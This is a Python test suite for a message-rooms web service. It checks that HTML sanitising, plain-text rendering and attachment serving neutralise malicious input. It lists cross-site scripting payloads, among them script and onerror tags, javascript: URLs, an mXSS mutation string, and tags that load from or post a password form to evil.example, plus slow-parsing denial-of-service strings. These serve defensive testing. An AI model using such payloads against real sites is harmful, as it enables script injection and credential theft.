"""A message cannot run anything, load anything, or look like a part of the page."""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from time import process_time

import pytest

from services.wiki.rooms.message_html import safe_html, text_html
from services.wiki.tests.web import Web
from shared.rooms.tests.build import a_post, an_open_room, posted

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<style>@import 'https://evil.example/'</style><p style='background:url(https://evil.example/)'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<link rel=stylesheet href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<p class=notice id=main>x</p><base href=https://evil.example/>",
    "</article></main><h1>Owned</h1>",
    "<video src=https://evil.example/ autoplay></video><object data=x></object><embed src=x>",
)


class Elements(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag not in {"script", "img", "svg", "iframe", "form", "input", "style", "link", "meta", "base", "video",
                           "object", "embed", "math", "h1", "main"}  # fmt: skip
        assert not any(name.startswith("on") or name in ("style", "id", "src") for name in attributes)
        if tag == "a":
            assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_of_a_message_is_made_safe(attack: str) -> None:
    check(safe_html(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_is_text(attack: str) -> None:
    for text in (attack, f"> {attack}", f"{attack} wrote:\n> x", f'https://x.example/"{attack}'):
        check(text_html(text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_subject_sender_and_body_are_safe_on_every_page(web: Web, attack: str) -> None:
    room = an_open_room(web.transaction, "a.b", description=attack)
    octets = (
        (
            f'From: "{attack.replace(chr(34), "")}" <a@x.example>\r\nSubject: {attack}\r\nMessage-ID: <1@x>\r\n'
            f"Content-Type: text/html; charset=utf-8\r\n\r\n{attack}\r\n"
        )
        .replace("\t", "")
        .encode()
    )
    posted(web.transaction, a_post(room, octets=octets))
    web.transaction.commit()
    alice = web.browser("alice")
    for path in ("/rooms/", "/rooms/a.b", "/rooms/a.b/1", "/rooms/a.b/threads/1", "/rooms/a.b/1/reply?quote"):
        got = alice.get(path)
        assert got.status == 200, path
        text = got.text
        assert "<img" not in text
        assert "onerror=alert" not in text.replace("&lt;img src=x onerror=alert", "").replace("src=1 onerror", "")
        assert "<script>" not in text
        assert 'href="javascript' not in text
        assert "<h1>Owned" not in text


@pytest.mark.parametrize(
    ("media_type", "expected", "how"),
    [
        ("image/svg+xml", "application/octet-stream", "attachment"),
        ("text/html", "application/octet-stream", "attachment"),
        ("application/xml", "application/octet-stream", "attachment"),
        ("application/xhtml+xml", "application/octet-stream", "attachment"),
        ("application/pdf", "application/octet-stream", "attachment"),
        ("application/javascript", "application/octet-stream", "attachment"),
        ("text/plain", "text/plain; charset=utf-8", "inline"),
        ("image/png", "image/png", "inline"),
        ('x"y/z"', "text/plain; charset=utf-8", "inline"),  # no type at all (RFC 2045 §5.2)
    ],
)
def test_nothing_that_is_attached_is_run_from_this_origin(web: Web, media_type: str, expected: str, how: str) -> None:
    room = an_open_room(web.transaction, "a.b")
    octets = (
        "From: a@x.example\r\nSubject: s\r\nMessage-ID: <1@x>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\n\r\nhello\r\n--b\r\nContent-Type: {media_type}\r\nContent-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="x\\"\u2028;y.html"\r\n\r\n'
        f"{base64.b64encode(b'<script>alert(1)</script>').decode()}\r\n--b--\r\n"
    ).encode()
    posted(web.transaction, a_post(room, octets=octets))
    web.transaction.commit()
    got = web.browser().get("/rooms/a.b/1/part/2")
    assert got.status == 200
    assert got.fields["content-type"] == expected
    assert got.fields["content-disposition"].startswith(f"{how}; filename*=UTF-8''")
    assert got.fields["x-content-type-options"] == "nosniff"
    assert "sandbox" in got.fields["content-security-policy"]
    assert got.body == b"<script>alert(1)</script>"
    raw = web.browser().get("/rooms/a.b/1/raw")
    assert raw.fields["content-type"] == "text/plain; charset=utf-8"
    assert "sandbox" in raw.fields["content-security-policy"]


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 100_000, "<" * 500_000, "<a href=x>" * 50_000, "&" * 500_000, "<table><tr><td>" * 30_000,
        "<b><i>" * 50_000 + "x" + "</i>" * 50_000,
    ],
)  # fmt: skip
def test_html_that_is_made_to_be_slow_is_not(text: str) -> None:
    began = process_time()
    safe_html(text)
    assert process_time() - began < 8


@pytest.mark.parametrize("text", [">" * 300_000, "> \n" * 100_000, "https://" * 50_000, "a wrote:\n> b\n" * 30_000])
def test_text_that_is_made_to_be_slow_is_not(text: str) -> None:
    began = process_time()
    text_html(text)
    assert process_time() - began < 8
